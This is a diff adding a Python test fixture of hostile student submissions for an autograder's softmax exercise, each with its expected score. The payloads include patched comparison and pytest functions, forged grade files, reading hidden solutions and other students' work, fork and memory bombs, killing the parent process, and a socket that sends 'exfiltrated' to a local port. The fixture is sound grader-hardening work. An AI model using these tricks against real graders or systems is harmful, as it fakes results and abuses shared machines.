@@ -1,0 +1,270 @@
+"""Malicious and broken submissions of ch3.softmax, each with the score it must get.
+
+Every attack is a whole student folder. WRONG is an honest-looking but wrong answer: an attack
+layered on it must still score 0, which proves the attack gained nothing. Paths the attacker
+would need (the output folder, the course, other students, a TCP port) are filled in at test
+time, as if the attacker had guessed them right.
+"""
+
+from __future__ import annotations
+
+WRONG = '''
+import torch
+def softmax(X):
+    return torch.full_like(X, 1.0 / X.shape[1])
+def cross_entropy(y_hat, y):
+    return torch.zeros((), dtype=y_hat.dtype)
+def cross_entropy_logits(logits, y):
+    return torch.zeros((), dtype=logits.dtype)
+'''
+
+
+def returning(expr: str, prelude: str = "") -> str:
+    """A module whose three functions all return `expr` (after `prelude`)."""
+    return prelude + "\n" + "\n".join(
+        f"def {name}(*args, **kwargs):\n    return {expr}\n"
+        for name in ("softmax", "cross_entropy", "cross_entropy_logits"))
+
+
+ATTACKS: dict[str, dict] = {}
+
+
+def attack(name: str, files: dict[str, str | bytes], score: float = 0.0, why: str = "") -> None:
+    ATTACKS[name] = {"files": files, "score": score, "why": why}
+
+
+attack("eq_always_true", {"ch3/softmax.py": returning("Yes()", '''
+class Yes:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __bool__(self): return True
+    def __float__(self): return 2.0404
+    def __getattr__(self, name): return lambda *a, **k: Yes()
+''')}, why="an object that equals everything is not plain data")
+
+attack("tensor_subclass_eq", {"ch3/softmax.py": returning("torch.zeros(2, 3).as_subclass(T)", '''
+import torch
+class T(torch.Tensor):
+    def __eq__(self, other): return True
+    def allclose(self, *a, **k): return True
+''')}, why="tensor subclasses are rejected, not compared")
+
+attack("torch_function_override", {"ch3/softmax.py": returning("torch.zeros(2, 3).as_subclass(T)", '''
+import torch
+class T(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        return torch.tensor(True)
+''')})
+
+attack("nan_outputs", {"ch3/softmax.py": returning("torch.full((2, 3), float('nan'))", "import torch")})
+
+attack("broadcastable_shapes", {"ch3/softmax.py": '''
+import torch
+def softmax(X):
+    return torch.full((1, 1), 1.0 / X.shape[1], dtype=X.dtype)
+def cross_entropy(y_hat, y):
+    return torch.full((1,), 2.0404, dtype=y_hat.dtype)
+def cross_entropy_logits(logits, y):
+    return torch.full((1, 1), 2.0404, dtype=logits.dtype)
+'''}, why="strict shapes: a broadcastable answer is a wrong answer")
+
+attack("patch_allclose", {"ch3/softmax.py": '''
+import torch
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
+torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+''' + WRONG})
+
+attack("patch_assert_close", {"ch3/softmax.py": '''
+import torch, torch.testing
+torch.testing.assert_close = lambda *a, **k: None
+torch.testing.assert_allclose = lambda *a, **k: None
+''' + WRONG})
+
+attack("patch_numpy_testing", {"ch3/softmax.py": '''
+import numpy, numpy.testing
+numpy.testing.assert_allclose = lambda *a, **k: None
+numpy.allclose = lambda *a, **k: True
+''' + WRONG})
+
+attack("patch_pytest_runtest", {"ch3/softmax.py": '''
+try:
+    import _pytest.python, _pytest.runner
+    _pytest.python.Function.runtest = lambda self: None
+    _pytest.runner.pytest_runtest_call = lambda item: None
+except Exception:
+    pass
+''' + WRONG})
+
+attack("conftest_makereport", {
+    "ch3/softmax.py": WRONG,
+    "ch3/conftest.py": '''
+import pytest
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    report = outcome.get_result()
+    report.outcome = "passed"
+    report.longrepr = None
+''',
+    "conftest.py": "from ch3.conftest import *\n"})
+
+attack("sys_exit_at_import", {"ch3/softmax.py": "import sys\nsys.exit(0)\n" + WRONG})
+attack("os_exit_at_import", {"ch3/softmax.py": "import os\nos._exit(0)\n" + WRONG})
+attack("sys_exit_in_call", {"ch3/softmax.py": returning("sys.exit(0)", "import sys")})
+attack("os_exit_in_call", {"ch3/softmax.py": returning("os._exit(0)", "import os")})
+
+attack("fake_passed_output", {"ch3/softmax.py": '''
+import sys, json
+for stream in (sys.stdout, sys.stderr):
+    print("PASSED test_softmax_rows_sum_to_one", file=stream)
+    print("ch3.softmax: 10/10 points", file=stream)
+    print(json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "status": "passed"}]}), file=stream)
+''' + WRONG.replace("def softmax(X):", "def softmax(X):\n    print('PASSED', flush=True)")})
+
+attack("write_output_folder", {"ch3/softmax.py": '''
+import os, glob
+def vandalise():
+    for path in ["{OUT}/grades.csv", "{OUT}/grades.json", "{OUT}/gradebook.sqlite",
+                 "{OUT}/feedback/write_output_folder.md"]:
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "w") as f:
+                f.write("student,total,max\\nwrite_output_folder,70,70\\n")
+        except Exception:
+            pass
+vandalise()
+''' + WRONG.replace("def softmax(X):", "def softmax(X):\n    vandalise()")})
+
+attack("read_hidden_checks", {"ch3/softmax.py": '''
+import torch
+def _steal():
+    ns = {}
+    try:
+        src = open("{ROOT}/solutions/ch3/softmax.py").read()
+        open("{ROOT}/solutions/ch3/test_softmax_hidden.py").read()
+        exec(compile(src, "stolen", "exec"), ns)
+    except Exception:
+        pass
+    return ns
+def softmax(X):
+    return _steal().get("softmax", lambda X: torch.zeros_like(X))(X)
+def cross_entropy(y_hat, y):
+    return _steal().get("cross_entropy", lambda a, b: torch.zeros(()))(y_hat, y)
+def cross_entropy_logits(logits, y):
+    return _steal().get("cross_entropy_logits", lambda a, b: torch.zeros(()))(logits, y)
+'''}, why="the worker cannot read solutions/")
+
+attack("read_other_student", {"ch3/softmax.py": '''
+import torch
+def _steal():
+    ns = {}
+    try:
+        exec(compile(open("{SUBMISSIONS}/control_perfect/ch3/softmax.py").read(), "x", "exec"), ns)
+    except Exception:
+        pass
+    return ns
+def softmax(X):
+    return _steal().get("softmax", lambda X: torch.zeros_like(X))(X)
+def cross_entropy(y_hat, y):
+    return _steal().get("cross_entropy", lambda a, b: torch.zeros(()))(y_hat, y)
+def cross_entropy_logits(logits, y):
+    return _steal().get("cross_entropy_logits", lambda a, b: torch.zeros(()))(logits, y)
+'''}, why="the worker cannot read other students' files")
+
+attack("shadow_torch_module", {"ch3/softmax.py": WRONG, "ch3/torch.py":
+                               "def allclose(*a, **k):\n    return True\n", "torch.py": "raise SystemExit(0)\n"})
+attack("shadow_numpy_module", {"ch3/softmax.py": WRONG, "ch3/numpy.py": "allclose = lambda *a, **k: True\n",
+                               "numpy.py": "raise SystemExit(0)\n"})
+attack("sitecustomize", {"ch3/softmax.py": WRONG, "sitecustomize.py":
+                         "import torch\ntorch.allclose = lambda *a, **k: True\n",
+                         "ch3/sitecustomize.py": "import os\nos._exit(0)\n",
+                         "usercustomize.py": "import os\nos._exit(0)\n"})
+attack("pth_file", {"ch3/softmax.py": WRONG, "ch3/evil.pth": "import os; open('{MARKER}.pth', 'w').write('x')\n",
+                    "evil.pth": "import os; open('{MARKER}.pth', 'w').write('x')\n"})
+
+attack("infinite_loop", {"ch3/softmax.py": returning("_spin()", "def _spin():\n    while True:\n        pass\n")})
+attack("memory_bomb", {"ch3/softmax.py": returning("_eat()", '''
+def _eat():
+    hog = []
+    while True:
+        hog.append(bytearray(256 * 1024 * 1024))
+''')})
+attack("fork_bomb", {"ch3/softmax.py": returning("_forks()", '''
+import os
+def _forks():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+''')})
+attack("huge_output", {"ch3/softmax.py": '''
+import sys
+chunk = "x" * (1 << 20)
+try:
+    for _ in range(1024):
+        sys.stdout.write(chunk)
+except Exception:
+    pass
+''' + WRONG})
+attack("background_process", {"ch3/softmax.py": '''
+import os, subprocess, threading, time
+subprocess.Popen(["/bin/sh", "-c", "sleep 4; echo x > {MARKER}.bg"], start_new_session=True)
+def _loop():
+    while True:
+        time.sleep(0.01)
+threading.Thread(target=_loop, daemon=False).start()
+''' + WRONG})
+attack("global_torch_state", {"ch3/softmax.py": '''
+import torch
+torch.set_default_dtype(torch.float64)
+torch.set_grad_enabled(False)
+torch.manual_seed(0)
+''' + "{PERFECT}" + '''
+_honest = (softmax, cross_entropy, cross_entropy_logits)
+def softmax(X):
+    torch.set_default_dtype(torch.float64); torch.set_grad_enabled(False); torch.manual_seed(0)
+    return _honest[0](X)
+def cross_entropy(y_hat, y):
+    torch.set_default_dtype(torch.float16)
+    return _honest[1](y_hat, y)
+def cross_entropy_logits(logits, y):
+    torch.set_default_dtype(torch.float64)
+    return _honest[2](logits, y)
+'''}, score=10.0, why="a correct answer that changes global state keeps full marks and breaks no one else")
+attack("forbidden_alias", {"ch3/softmax.py": '''
+import torch
+import torch.nn.functional as F
+def softmax(X):
+    return getattr(F, "soft" + "max")(X, dim=1)
+def cross_entropy(y_hat, y):
+    return -torch.log(y_hat[torch.arange(len(y)), y]).mean()
+def cross_entropy_logits(logits, y):
+    return getattr(torch.ops.aten, "_log_" + "softmax")(logits, 1, False)[torch.arange(len(y)), y].neg().mean()
+'''}, score=None, why="the banned softmax/log_softmax under other names scores 0 on those functions")
+attack("network", {"ch3/softmax.py": '''
+import socket
+def _call_home():
+    try:
+        s = socket.create_connection(("127.0.0.1", {PORT}), timeout=1)
+        s.sendall(b"exfiltrated")
+        s.close()
+    except Exception:
+        pass
+_call_home()
+''' + WRONG.replace("def softmax(X):", "def softmax(X):\n    _call_home()")})
+attack("segfault", {"ch3/softmax.py": returning("_crash()", "import ctypes\ndef _crash():\n    ctypes.string_at(0)\n")})
+attack("kill_parent", {"ch3/softmax.py": returning("_kill()", '''
+import os, signal
+def _kill():
+    try:
+        os.kill(os.getppid(), signal.SIGKILL)
+    except Exception:
+        pass
+    return None
+''')}, why="a worker that signals its parent must not stop the grading")
+attack("syntax_error", {"ch3/softmax.py": "def softmax(X)\n    return X\n"})
+attack("not_utf8", {"ch3/softmax.py": b"# caf\xe9 \xff\xfe\n" + WRONG.encode()})
